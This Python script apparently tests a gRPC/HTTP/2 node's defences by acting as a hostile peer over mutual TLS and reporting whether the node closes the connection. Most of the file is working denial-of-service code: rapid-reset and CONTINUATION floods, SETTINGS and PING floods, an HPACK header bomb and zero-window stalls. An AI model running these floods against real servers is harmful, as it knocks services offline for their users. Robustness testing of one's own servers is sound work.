"""A listed peer that went bad: HTTP/2 by hand over mutual TLS with keys in files. Does what FLOOD says and prints
how the node ended it: `closed`, or `served` when it did not.

    flood.py HOST PORT CERTIFICATE KEY FLOOD [PATH]     PATH: the method that it calls"""

import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
FRAMES = 5_000_000
PATH = (sys.argv[6:] or ["/test.Echo/Both"])[0].encode()


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field without indexing (RFC 7541 section 6.2.2), for lengths below 127."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path=PATH):
    fields = [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"a"), (b":path", path)]
    fields += [(b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return b"".join(literal(name, value) for name, value in fields)


class Peer:
    def __init__(self, host, port, certificate, key, settings=b""):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.load_cert_chain(certificate, key)
        context.set_alpn_protocols(["h2"])
        self.stream = context.wrap_socket(socket.create_connection((host, int(port))))
        self.stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, payload=settings))
        self.heard = self.stream.recv(9)

    def flood(self, frames):
        """Sends them all; whether the node put up with it."""
        if not self.heard:
            return "never let in"
        self.stream.settimeout(20)
        batch = b""
        try:
            for one in frames:
                batch += one
                if len(batch) > 60_000:
                    self.stream.sendall(batch)
                    batch = b""
            self.stream.sendall(batch + frame(PING, payload=b"the last"))
            received = b""
            while b"the last" not in received:
                more = self.stream.recv(1 << 16)
                if not more:
                    return "closed"
                received = received[-8:] + more
            return "served"
        except (ConnectionError, ssl.SSLError):
            return "closed"


def rapid_reset(peer):
    for number in range(FRAMES):
        stream = 2 * number + 1
        yield frame(HEADERS, END_HEADERS, stream, request())
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuations(peer):
    yield frame(HEADERS, 0, 1, request())
    for _ in range(FRAMES):
        yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100))


def empty_continuations(peer):
    yield frame(HEADERS, 0, 1, request())
    for _ in range(FRAMES):
        yield frame(CONTINUATION, 0, 1)


def settings(peer):
    for _ in range(FRAMES):
        yield frame(SETTINGS)


def pings(peer):
    for _ in range(FRAMES):
        yield frame(PING, payload=b"12345678")


def priorities(peer):
    for _ in range(FRAMES):
        yield frame(PRIORITY, 0, 1, b"\0\0\0\0\0")


def window_updates(peer):
    for _ in range(FRAMES):
        yield frame(WINDOW_UPDATE, payload=struct.pack(">I", 1))


def broken_calls(peer):
    """More than was announced, so that the node itself takes each back."""
    for number in range(FRAMES):
        stream = 2 * number + 1
        yield frame(HEADERS, END_HEADERS, stream, request() + literal(b"content-length", b"0"))
        yield frame(DATA, 0, stream, b"more")


def unknown(peer):
    for _ in range(FRAMES):
        yield frame(0xBE, 0, 0, b"?")


def empty_data(peer):
    yield frame(HEADERS, END_HEADERS, 1, request())
    for _ in range(FRAMES):
        yield frame(DATA, 0, 1)


def header_bomb(peer):
    """One field of 4 KiB in the table, named again and again by one byte."""
    bomb = b"\x40\x01a\x7f" + bytes([0x80 | (3900 - 127) % 128, (3900 - 127) // 128]) + b"b" * 3900
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, request() + bomb + b"\xbe" * 10_000)
    for number in range(1, 2000):
        yield frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, request() + b"\xbe" * 10_000)


def no_window(peer):
    """Asks for much, on as many streams as it may, and takes nothing."""
    for number in range(900):
        stream = 2 * number + 1
        yield frame(HEADERS, END_HEADERS, stream, request(b"/test.Echo/Much"))
        yield frame(DATA, END_STREAM, stream, bytes(5))


def unread(peer):
    """Asks for much more than any connection holds, and takes nothing."""
    for number in range(40):
        stream = 2 * number + 1
        yield frame(HEADERS, END_HEADERS, stream, request(b"/test.Echo/Large"))
        yield frame(DATA, END_STREAM, stream, bytes(5))


def pings_with_data(peer):
    """What grpc-go does: a PING for each piece of the answer, to learn how much the way holds."""
    peer.stream.sendall(
        frame(WINDOW_UPDATE, payload=struct.pack(">I", 1 << 30))
        + frame(HEADERS, END_HEADERS, 1, request(b"/test.Echo/Bulk"))
        + frame(DATA, END_STREAM, 1, bytes(5))
    )
    reader = peer.stream.makefile("rb")
    if len(peer.heard) == 9:
        reader.read(int.from_bytes(peer.heard[:3], "big"))
    pings = 0
    while head := reader.read(9):
        reader.read(int.from_bytes(head[:3], "big"))
        if head[3] == DATA:
            peer.stream.sendall(frame(PING, payload=b"12345678"))
            pings += 1
        elif head[3] == HEADERS and head[4] & END_STREAM:
            return f"whole after {pings // 1000} thousand PINGs"
    return "closed"


def calls(peer):
    """No flood: a thousand calls, a few at a time."""
    reader = peer.stream.makefile("rb")
    if len(peer.heard) == 9:
        reader.read(int.from_bytes(peer.heard[:3], "big"))
    answered = 0
    for batch in range(100):
        streams = [2 * number + 1 for number in range(10 * batch, 10 * batch + 10)]
        for stream in streams:
            head = frame(HEADERS, END_HEADERS, stream, request())
            peer.stream.sendall(head + frame(DATA, END_STREAM, stream, bytes(5)))
        while answered < 10 * batch + 10 and (head := reader.read(9)):
            reader.read(int.from_bytes(head[:3], "big"))
            answered += head[3] == HEADERS and head[4] & END_STREAM
    return f"{answered} answered"


def connections(arguments):
    """How many of them are let in at once."""
    open_ones = []
    for _ in range(4):
        try:
            peer = Peer(*arguments)
            if peer.heard:
                open_ones.append(peer)
        except (ConnectionError, ssl.SSLError):
            pass
    return f"{len(open_ones)} of 4"


def main():
    *arguments, action = sys.argv[1:6]
    if action == "connections":
        print(connections(arguments))
        return
    # SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 section 6.5.2)
    windows = {"no_window": 0, "unread": 0, "pings_with_data": 1 << 30}
    window = struct.pack(">HI", 4, windows[action]) if action in windows else b""
    peer = Peer(*arguments, window)
    if action in ("pings_with_data", "calls"):
        print(globals()[action](peer))
        return
    ended = peer.flood(globals()[action](peer))
    if action == "no_window":
        # The node put up with it for a while: now it holds on until it is thrown out.
        print(ended, flush=True)
        peer.stream.settimeout(60)
        try:
            while peer.stream.recv(1 << 16):
                pass
        except (ConnectionError, ssl.SSLError):
            pass
        print("thrown out")
    elif action == "unread":
        print(ended, flush=True)
        sys.stdin.readline()
    else:
        print(ended)


main()
